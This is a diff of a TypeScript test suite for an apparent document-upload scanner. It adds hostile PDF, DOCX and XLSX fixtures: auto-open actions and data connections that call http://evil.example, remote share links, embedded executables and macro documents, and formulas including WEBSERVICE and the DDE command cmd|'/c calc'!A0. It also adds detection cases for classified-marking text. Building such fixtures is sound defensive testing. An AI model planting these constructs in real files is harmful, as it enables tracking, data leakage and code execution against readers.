@@ -135,6 +135,33 @@ function pdfs(plain: Plain): Hostile[] {
     runs('a file inside', '/Names << /EmbeddedFiles << /Names [(a.exe) 6 0 R] >> >>', [
       '<< /Type /Filespec /F (a.exe) >>',
     ]),
+    ...Object.entries({
+      'a page of the network, opened unasked': ['/OpenAction 6 0 R', '<< /S /URI /URI (http://evil.example) >>'],
+      'a form that sends itself': ['/OpenAction << /S /SubmitForm /F (http://evil.example) >>'],
+      'a paper on somebody’s share': [
+        '/OpenAction 6 0 R',
+        '<< /S /GoToR /F (\\\\\\\\evil\\\\share\\\\a.pdf) /D [0 /Fit] >>',
+      ],
+      'a paper within another': ['/OpenAction 6 0 R', '<< /S /GoToE /F (a.pdf) >>'],
+      'a page of the network when it is closed': ['/AA << /WC 6 0 R >>', '<< /S /#55RI /URI (http://evil.example) >>'],
+    }).map(([what, [catalog, ...more]]) => file(`PDF: ${what}`, 'a.pdf', 'FILE_CALLS_OUT', pdf(catalog, more))),
+    file('PDF: a page of the network, opened unasked, in packed objects', 'a.pdf', 'FILE_CALLS_OUT', () =>
+      pdfOfObjects([
+        '<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>',
+        ...plainObjects,
+        packed('6 0 << /S /URI /URI (http://evil.example) >>', 4),
+      ]),
+    ),
+    file(
+      'PDF: an ordinary link, pressed by whoever reads',
+      'a.pdf',
+      'stored',
+      pdf('', ['<< /S /URI /URI (https://mau.example) >>']),
+    ),
+    file('PDF: a page to begin with', 'a.pdf', 'stored', pdf('/OpenAction [3 0 R /Fit]')),
+    file('PDF: the letters of a script in the bytes of a picture', 'a.pdf', 'stored', () =>
+      pdf('', ['<< /Type /XObject /Subtype /Image /Length 9 >>\nstream\nab /JS\x01c\nendstream']),
+    ),
     file('PDF: an archive behind', 'a.pdf', 'FILE_RUNS', Buffer.concat([plain.pdf, plain.docx])),
     file('PDF: a page before', 'a.pdf', 'FILE_TYPE_UNKNOWN', Buffer.concat([Buffer.from(HTML), plain.pdf])),
     file(
@@ -198,6 +225,17 @@ function offices(): Hostile[] {
     linked('an ordinary link to a page', 'stored', 'hyperlink', 'https://thuvienphapluat.vn'),
     docx('DDE', 'FILE_RUNS', command('DDEAUTO c:\\\\windows\\\\cmd.exe')),
     docx('text of another file', 'FILE_CALLS_OUT', command('INCLUDETEXT "c:\\\\a.txt"')),
+    docx('a picture of the network, in two runs', 'FILE_CALLS_OUT', {
+      'word/document.xml': `<w:document><w:body><w:p><w:r><w:instrText>INCLUDEPICTURE "</w:instrText></w:r><w:r><w:instrText>ftp://evil.example/a.png"</w:instrText></w:r></w:p></w:body></w:document>`,
+    }),
+    docx('a picture of the writer’s disk', 'stored', command('INCLUDEPICTURE "C:\\\\Users\\\\a\\\\logo.png"')),
+    docx('a macro document inside', 'FILE_RUNS', {
+      'word/_rels/document.xml.rels': relations([`${OFFICE}/package`, 'embeddings/a.docm']),
+    }),
+    docx('a program inside', 'FILE_RUNS', { 'word/embeddings/a.exe': 'MZ' }),
+    docx('the sheet behind a chart', 'stored', {
+      'word/_rels/document.xml.rels': relations([`${OFFICE}/package`, 'embeddings/Microsoft_Excel_Sheet.xlsx']),
+    }),
     docx('no document', 'any', { 'word/document.xml': '' }),
     swelling('docx'),
     file('DOCX: 5,000 parts', 'a.docx', 'FILE_SWELLS', () =>
@@ -221,6 +259,25 @@ function offices(): Hostile[] {
           'External',
         ]),
       }),
+    ),
+    file('XLSX: data of the network, fetched on opening', 'a.xlsx', 'FILE_CALLS_OUT', () =>
+      officeOf('xlsx', 'a', {
+        'xl/connections.xml':
+          '<connections><connection id="1" refreshOnLoad="1"><webPr url="http://evil.example"/></connection></connections>',
+      }),
+    ),
+    ...Object.entries({
+      'WEBSERVICE("http://evil.example")': 'FILE_CALLS_OUT',
+      '_xlfn.IMAGE("http://evil.example/a.png")': 'FILE_CALLS_OUT',
+      "cmd|'/c calc'!A0": 'FILE_RUNS',
+      'IF(A1="a|b",1,2)': 'stored',
+      'SUM(A1:A9)': 'stored',
+    }).map(([formula, becomes]) =>
+      file(`XLSX: ${formula}`, 'a.xlsx', becomes, () =>
+        officeOf('xlsx', 'a', {
+          'xl/worksheets/sheet1.xml': `<worksheet><sheetData><row><c><f>${formula.replaceAll('"', '&quot;')}</f><v>1</v></c></row></sheetData></worksheet>`,
+        }),
+      ),
     ),
     file('DOCX: behind a password', 'a.docx', 'FILE_ENCRYPTED', () =>
       Buffer.concat([
@@ -267,8 +324,55 @@ function secrets(): Hostile[] {
       }),
     ),
     file(`${stamp} in XLSX`, 'a.xlsx', 'FILE_SECRET', () => officeOf('xlsx', stamp)),
+    ...Object.entries({
+      'a cell of its own': `<sheetData><row><c t="inlineStr"><is><t>${stamp}</t></is></c></row></sheetData>`,
+      'the result of a formula': `<sheetData><row><c t="str"><f>A1</f><v>${stamp}</v></c></row></sheetData>`,
+      'the head of a printed page': `<sheetData/><headerFooter><oddHeader>&amp;C&amp;"Times New Roman,Bold"&amp;14${stamp}&amp;RTrang &amp;P</oddHeader></headerFooter>`,
+    }).map(([where, inner]) =>
+      file(`${stamp} in ${where} of a sheet`, 'a.xlsx', 'FILE_SECRET', () =>
+        officeOf('xlsx', 'a', { 'xl/worksheets/sheet1.xml': `<worksheet>${inner}</worksheet>` }),
+      ),
+    ),
+    ...Object.entries({
+      'over two lines': stamp.split(' ').join('</w:t><w:br/><w:t>'),
+      'letter by letter': stamp.replaceAll(' ', '  ').split('').join(' '),
+    }).map(([how, text]) =>
+      file(`${stamp} ${how}`, 'a.docx', 'FILE_SECRET', () =>
+        officeOf('docx', 'a', {
+          'word/document.xml': `<w:document><w:body><w:p><w:r><w:t>UBND TỈNH MẪU</w:t></w:r></w:p><w:p><w:r><w:t>${text}</w:t></w:r></w:p></w:body></w:document>`,
+        }),
+      ),
+    ),
+    file(`${stamp} in a part of its own folder`, 'a.docx', 'FILE_SECRET', () =>
+      officeOf('docx', 'a', {
+        'word/glossary/document.xml': `<w:document><w:body>${paragraph(stamp)}</w:body></w:document>`,
+      }),
+    ),
+    ...[toTcvn3(stamp), toVni(stamp)].map((old, at) =>
+      file(`${stamp} in the letters of ${at === 0 ? 'TCVN3' : 'VNI'}`, 'a.docx', 'FILE_SECRET', () =>
+        officeOf('docx', `UBND\n${old}`),
+      ),
+    ),
   ])
 }
+
+/** Fonts of before Unicode, whose letters are read as others: .VnTimeH shows small letters as capitals. */
+const toTcvn3 = (text: string) =>
+  text
+    .toLowerCase()
+    .replaceAll('ậ', 'Ë')
+    .replaceAll('ố', 'è')
+    .replaceAll('ệ', 'Ö')
+    .replaceAll('đ', '®')
+    .replaceAll('ộ', 'é')
+const toVni = (text: string) =>
+  text
+    .toUpperCase()
+    .replaceAll('Ậ', 'AÄ')
+    .replaceAll('Ố', 'OÁ')
+    .replaceAll('Ệ', 'EÄ')
+    .replaceAll('Đ', 'Ñ')
+    .replaceAll('Ộ', 'OÄ')
 
 /** What offices really send must come through. */
 function papersOfOffices(): Hostile[] {
@@ -279,10 +383,24 @@ function papersOfOffices(): Hostile[] {
       typeset('ỦY BAN NHÂN DÂN\n\nTỐI MẬT\n\nBáo cáo'),
     ),
     file('an ordinary DOCX', 'Báo cáo.docx', 'stored', async () => Buffer.from(await renderDocx(papers.unitReport))),
+    file('a paper about secrets, in a heading of two lines', 'a.docx', 'stored', () =>
+      officeOf('docx', 'CÔNG TÁC BẢO VỆ BÍ\nMẬT'),
+    ),
     file('an ordinary XLSX', 'Phụ lục.xlsx', 'stored', () =>
       writeXlsxFile([[{ value: 'Số liệu' }, { value: 12 }]]).toBuffer(),
     ),
   ]
+}
+
+/** The objects after the catalogue of a paper with one empty page. */
+const plainObjects = [
+  '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
+  '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>',
+]
+
+function packed(text: string, first: number): string {
+  const bytes = deflateSync(Buffer.from(text)).toString('latin1')
+  return `<< /Type /ObjStm /N 1 /First ${first} /Filter /FlateDecode /Length ${bytes.length} >>\nstream\n${bytes}\nendstream`
 }
 
 /** A PDF of one page; `catalog` and `more` objects (from 6 on) are what is hostile in it. */
